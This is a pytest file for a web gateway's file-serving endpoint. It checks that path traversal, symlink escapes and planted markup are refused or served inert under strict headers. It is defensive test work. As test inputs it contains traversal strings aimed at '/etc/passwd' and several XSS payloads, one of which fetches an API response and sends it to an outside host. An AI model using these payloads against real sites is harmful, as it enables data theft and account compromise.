"""/outputs serves files inside storage.output_dir and nothing else (raw-HTTP traversal attempts are in
tests/integration/test_gateway_alone.py)."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from ablerefusal.gateway.errors import ApiException
from ablerefusal.gateway.outputs import resolve_output
from ablerefusal.gateway.settings import Settings

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 16


@pytest.fixture
def tree(settings: Settings, tmp_path: Path) -> Path:
    root = settings.storage.output_dir
    (root / "job1").mkdir(parents=True)
    (root / "job1" / "0.png").write_bytes(PNG)
    secret = tmp_path / "secret.txt"
    secret.write_text("top secret")
    (root / "job1" / "link.png").symlink_to(secret)
    (root / "escape").symlink_to(tmp_path, target_is_directory=True)
    return root


def test_serves_png_with_type_and_nosniff(client: TestClient, tree: Path) -> None:
    resp = client.get("/outputs/job1/0.png")
    assert resp.status_code == 200
    assert resp.content == PNG
    assert resp.headers["content-type"] == "image/png"
    assert resp.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    ("rel", "raw", "status"),
    [
        ("../secret.txt", b"/outputs/../secret.txt", 400),
        ("job1/../../secret.txt", b"/outputs/job1/../../secret.txt", 400),
        ("../secret.txt", b"/outputs/%2e%2e/secret.txt", 400),
        ("..\\secret.txt", b"/outputs/..\\secret.txt", 400),
        ("/etc/passwd", b"/outputs//etc/passwd", 400),
        ("job1/./0.png", b"/outputs/job1/./0.png", 400),
        ("job1/link.png", b"/outputs/job1/link.png", 404),
        ("escape/secret.txt", b"/outputs/escape/secret.txt", 404),
        ("job1/missing.png", b"/outputs/job1/missing.png", 404),
        ("job1", b"/outputs/job1", 404),
    ],
)
def test_refuses_paths_outside(tree: Path, rel: str, raw: bytes, status: int) -> None:
    with pytest.raises(ApiException) as caught:
        resolve_output(tree, rel, raw)
    assert caught.value.status_code == status


def test_symlink_out_is_not_served(client: TestClient, tree: Path) -> None:
    assert client.get("/outputs/job1/link.png").status_code == 404
    assert client.get("/outputs/escape/secret.txt").status_code == 404


# Issue 16 item 9: a file that lands in the outputs folder by any other way than our writer (another tool, a
# shared volume, a bug) must never reach a browser as a page that runs script on the gateway's origin.
@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("evil.html", b"<script>fetch('/api/v1/generate').then(r=>r.text()).then(t=>fetch('//x/'+t))</script>"),
        ("evil.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'),
        ("evil.htm", b"<script>alert(1)</script>"),
        ("evil.xml", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>'),
        ("evil", b"<script>alert(1)</script>"),
    ],
)
def test_planted_markup_is_not_served(client: TestClient, tree: Path, name: str, body: bytes) -> None:
    (tree / "job1" / name).write_bytes(body)
    resp = client.get(f"/outputs/job1/{name}")
    assert resp.status_code == 404
    assert body not in resp.content
    assert resp.headers["content-type"] == "application/json"


def test_a_png_named_file_holding_markup_cannot_run_script(client: TestClient, tree: Path) -> None:
    # Even a file we do serve is locked down: image type, nosniff and a CSP that forbids everything.
    (tree / "job1" / "1.png").write_bytes(b"<html><script>alert(1)</script></html>")
    resp = client.get("/outputs/job1/1.png")
    assert resp.status_code == 200
    assert resp.headers["content-type"] == "image/png"
    assert resp.headers["x-content-type-options"] == "nosniff"
    assert resp.headers["content-security-policy"].split(";")[0] == "default-src 'none'"


def test_outputs_are_cached_for_long_since_they_never_change(client: TestClient, tree: Path) -> None:
    cache = client.get("/outputs/job1/0.png").headers["cache-control"]
    directives = {d.strip().split("=")[0]: d.strip() for d in cache.split(",")}
    assert "immutable" in directives
    assert int(directives["max-age"].split("=")[1]) >= 30 * 24 * 3600
    # A key-protected image must not be stored by a shared cache in front of the gateway.
    assert "private" in directives


def test_path_resolution_runs_off_the_event_loop(
    client: TestClient, tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """resolve() and is_file() touch the disk (slow on a network volume): the loop must keep serving."""
    from ablerefusal.gateway import outputs

    on_loop: list[bool] = []
    real = outputs.resolve_output

    def recording(root: Path, rel: str, raw: bytes) -> Path:
        try:
            asyncio.get_running_loop()
            on_loop.append(True)
        except RuntimeError:  # no loop in this thread: a worker thread
            on_loop.append(False)
        return real(root, rel, raw)

    monkeypatch.setattr(outputs, "resolve_output", recording)
    assert client.get("/outputs/job1/0.png").status_code == 200
    assert on_loop == [False]


def test_a_png_name_linking_to_planted_markup_is_served_as_an_inert_image(client: TestClient, tree: Path) -> None:
    (tree / "job1" / "evil.html").write_bytes(b"<script>alert(1)</script>")
    (tree / "job1" / "2.png").symlink_to(tree / "job1" / "evil.html")
    resp = client.get("/outputs/job1/2.png")
    assert resp.status_code == 200
    assert resp.headers["content-type"] == "image/png"
    assert "sandbox" in resp.headers["content-security-policy"]
